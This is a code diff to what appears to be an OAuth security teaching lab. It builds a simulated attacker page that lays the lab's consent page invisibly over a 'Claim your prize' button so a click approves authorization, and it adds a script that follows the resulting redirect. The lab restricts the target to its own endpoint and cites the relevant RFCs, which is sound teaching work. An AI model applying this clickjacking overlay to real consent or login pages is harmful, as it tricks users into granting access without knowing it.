@@ -6,6 +6,7 @@
 import { sha256Text } from '../crypto';
 import { FRAME_LOCATION } from '../../walkthrough/frame-location';
 import { CSS, THEME_SCRIPT } from '../html/layout';
+import { CONSENT_DECISION_FRAGMENT } from '../html/login-consent';
 import { escapeHtml, NO_STORE } from '../http';
 import { ENDPOINTS } from '../paths';
 import { LEAK_REPORT, thirdPartyScriptSource } from './leak-report';
@@ -19,16 +20,25 @@ export const ATTACKER_MESSAGES = {
 } as const;
 
 const ATTACKER_CSS = `.attacker{border:3px dashed var(--danger)}dl{margin:0 0 1rem}dt{font-weight:600}dd{margin:0 0 .5rem}
-.decoy{position:relative;min-height:40rem}.decoy iframe{position:absolute;inset:0;width:100%;height:40rem;border:0;opacity:.0001;z-index:1}
-.decoy.revealed iframe{opacity:.5}.prize{font-size:1.25rem;padding:1rem 2rem;margin-top:22rem}`;
+.decoy{position:relative;height:3rem;margin:0 0 1rem}.decoy iframe{position:absolute;top:0;left:0;width:20rem;height:3rem;border:0;opacity:.0001;z-index:1}
+.decoy.revealed iframe{opacity:.5}.prize{position:absolute;top:0;left:0;width:11.5rem;height:2.875rem;padding:0;white-space:nowrap}`;
 
 /** Reports where the page is (the walk-through follows a cross-origin frame this way) and what it caught, when the lab's page is its parent. */
 const CATCH_SCRIPT = `(function(){var lab=document.documentElement.dataset.lab,here=location.href,ref=document.referrer;
 document.getElementById('fragment').textContent=location.hash||'(none)';document.getElementById('doc-referrer').textContent=ref||'(none)';
 var up=location.ancestorOrigins;if(parent!==window&&lab&&(!up||up[0]===lab)){parent.postMessage({type:'${FRAME_LOCATION}',href:here},lab);parent.postMessage({type:'${ATTACKER_MESSAGES.caught}',href:here,referrer:ref},lab)}})();`;
 
+/**
+ * The decoy reports where it is, like the catch page; and once its hidden frame lands on the attacker's
+ * own page (the consent form's redirect, readable because it is the attacker's origin), it opens that
+ * page in full, so the lab's browser frame shows what the attacker caught.
+ */
+const DECOY_SCRIPT = `(function(){var lab=document.documentElement.dataset.lab,up=location.ancestorOrigins,f=document.getElementById('hidden-consent');
+if(parent!==window&&lab&&(!up||up[0]===lab))parent.postMessage({type:'${FRAME_LOCATION}',href:location.href},lab);
+f.addEventListener('load',function(){var href;try{href=f.contentWindow.location.href}catch(e){return}if(href&&href!=='about:blank')location.replace(href)})})();`;
+
 const hash = (text: string) => `'sha256-${btoa(String.fromCharCode(...sha256Text(text)))}'`;
-const POLICY_BASE = `default-src 'none'; script-src ${hash(THEME_SCRIPT)} ${hash(CATCH_SCRIPT)}; style-src ${hash(CSS)} ${hash(ATTACKER_CSS)}; img-src data:; base-uri 'none'; form-action 'none'`;
+const POLICY_BASE = `default-src 'none'; script-src ${hash(THEME_SCRIPT)} ${hash(CATCH_SCRIPT)} ${hash(DECOY_SCRIPT)}; style-src ${hash(CSS)} ${hash(ATTACKER_CSS)}; img-src data:; base-uri 'none'; form-action 'none'`;
 
 function attackerPage(lab: string, title: string, body: string, options: { status?: number; frames?: string } = {}): Response {
   const page = `<!doctype html>
@@ -87,8 +97,10 @@ ${rows.length > 0 ? `<dl>${rows.join('')}</dl>` : '<p>Nothing.</p>'}
 
 /**
  * GET /attacker/decoy?target=<authorization URL on the lab's origin>: a page promising a prize, with
- * the lab's consent page laid invisibly over its button, so the click lands on "Approve". Only the
- * lab's authorization endpoint may be the target. `reveal=1` shows the frame half-transparent.
+ * the lab's consent page laid invisibly over its button, so the click lands on "Approve". The frame is
+ * a small window onto the page scrolled to its buttons (the `#decision` fragment), so "Approve" sits
+ * exactly under the prize button whatever the page above it holds. Only the lab's authorization
+ * endpoint may be the target. `reveal=1` shows the frame half-transparent.
  * @see RFC 6749 §10.13; RFC 9700 §4.16
  */
 export function decoyPage(request: Request, lab: string): Response {
@@ -110,9 +122,10 @@ export function decoyPage(request: Request, lab: string): Response {
     `<h1>Win a year of free photo prints!</h1>
 <p>One click and you are in the draw.</p>
 <div class="decoy${revealed ? ' revealed' : ''}">
-<iframe title="The lab’s consent page, hidden by the attacker" src="${escapeHtml(target.href)}"></iframe>
+<iframe id="hidden-consent" title="The lab’s consent page, hidden by the attacker" src="${escapeHtml(`${target.origin}${target.pathname}${target.search}${CONSENT_DECISION_FRAGMENT}`)}"></iframe>
 <button type="button" class="primary prize">Claim your prize</button>
-</div>`,
+</div>
+<script>${DECOY_SCRIPT}</script>`,
     // The consent page, and wherever it sends the browser next (the attacker's own catch page).
     { frames: `'self' ${lab}` },
   );
